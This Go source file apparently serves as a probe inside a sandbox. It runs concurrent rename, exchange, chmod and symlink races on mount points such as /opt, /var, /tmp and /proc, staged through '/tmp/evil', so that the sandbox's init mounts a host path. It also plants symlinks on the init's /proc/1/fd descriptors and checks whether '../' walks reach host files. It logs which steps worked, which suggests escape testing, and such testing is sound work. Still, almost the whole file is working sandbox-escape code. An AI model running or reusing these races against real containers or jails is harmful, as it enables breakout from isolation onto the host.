package main

import (
	"fmt"
	"os"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"
)

// race is what a program that waits for its code does meanwhile: it tries to lead the delivery astray.
type race struct {
	stop   atomic.Bool
	wg     sync.WaitGroup
	mu     sync.Mutex
	done   []string // what worked
	rounds atomic.Int64
	held   []int
}

var racing race

var raceActs = map[string]func([]string) string{
	"count": func(a []string) string {
		b, err := os.ReadFile(a[0])
		return either(strconv.Itoa(strings.Count(string(b), "\n")), err)
	},
	"direct": func(a []string) string { return direct(a[0]) },
	"spin": func(a []string) string {
		ms, _ := strconv.Atoi(a[0])
		for range 2 {
			go func() {
				for end := time.Now().Add(time.Duration(ms) * time.Millisecond); time.Now().Before(end); {
				}
			}()
		}
		return "spinning"
	},
	"hold": func(a []string) string { return racing.hold(a) },
	"held": func(a []string) string { return racing.look(a[0]) },
	"race": func(a []string) string { return racing.begin(a[0]) },
	"end":  func([]string) string { return racing.end() },
}

// hold keeps descriptors of directories, and works in one of them.
func (r *race) hold(dirs []string) string {
	for _, d := range dirs {
		fd, err := unix.Open(d, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return d + " " + verdict(err)
		}
		r.held = append(r.held, fd)
	}
	return verdict(os.Chdir(dirs[0]))
}

// look tells, of each that is held and of the working directory, whether a name can be reached from it
// by any number of steps upwards.
func (r *race) look(name string) string {
	var found []string
	for _, fd := range append([]int{unix.AT_FDCWD}, r.held...) {
		for up := range 6 {
			at := strings.Repeat("../", up) + name
			if got, err := unix.Openat(fd, at, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
				unix.Close(got)
				found = append(found, fmt.Sprint(fd, " ", at))
			}
		}
	}
	return strings.Join(found, ", ")
}

// begin puts links to a place of the host in the way of everything that is mounted, again and again.
func (r *race) begin(host string) string {
	_ = os.Mkdir("/tmp/evil", 0o700)
	for i, target := range []string{"/opt", "/var/task", "/var", "/tmp", "/dev", "/proc", "/opt/lib", "/var/task/lib", "/opt/0", "/opt/1", "/inmate"} {
		aside := "/tmp/evil/" + strconv.Itoa(i)
		r.wg.Go(func() {
			for !r.stop.Load() {
				r.note(os.Rename(target, aside), "rename "+target)
				r.note(os.Rename("/tmp/evil", target), "replace "+target)
				r.note(os.Remove(target), "remove "+target)
				r.note(os.Symlink(host, target), "link "+target)
				r.note(os.Mkdir(target, 0o777), "make "+target)
				r.note(unix.Renameat2(unix.AT_FDCWD, target, unix.AT_FDCWD, "/tmp/evil", unix.RENAME_EXCHANGE), "exchange "+target)
				if target != "/tmp" { // its own
					r.note(os.Chmod(target, 0o777), "chmod "+target)
				}
				r.rounds.Add(1)
			}
		})
	}
	for r.rounds.Load() == 0 {
		runtime.Gosched()
	}
	// what the init opens by number could be its own descriptors, or ours
	r.wg.Go(func() {
		for !r.stop.Load() {
			for fd := 4; fd < 64; fd++ {
				r.note(os.Symlink(host, "/proc/1/fd/"+strconv.Itoa(fd)), "link a descriptor of the init")
				if _, err := os.Readlink("/proc/1/fd/" + strconv.Itoa(fd)); err == nil {
					r.note(nil, "read a descriptor of the init")
				}
			}
		}
	})
	return "racing"
}

// note remembers what worked.
func (r *race) note(err error, what string) {
	if err != nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if !slices.Contains(r.done, what) {
		r.done = append(r.done, what)
	}
}

// end tells what worked, and whether anything was tried.
func (r *race) end() string {
	r.stop.Store(true)
	r.wg.Wait()
	slices.Sort(r.done)
	return fmt.Sprint(r.rounds.Load() > 0, " ", strings.Join(r.done, ", "))
}

// direct reads a file past the page cache.
func direct(name string) string {
	fd, err := unix.Open(name, unix.O_RDONLY|unix.O_DIRECT|unix.O_CLOEXEC, 0)
	if err != nil {
		return verdict(err)
	}
	defer unix.Close(fd)
	buf, err := unix.Mmap(-1, 0, 1<<20, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_ANON|unix.MAP_PRIVATE) // aligned
	if err != nil {
		return verdict(err)
	}
	total := 0
	for {
		n, err := unix.Read(fd, buf)
		if err != nil {
			return verdict(err)
		}
		if n == 0 {
			return strconv.Itoa(total)
		}
		total += n
	}
}
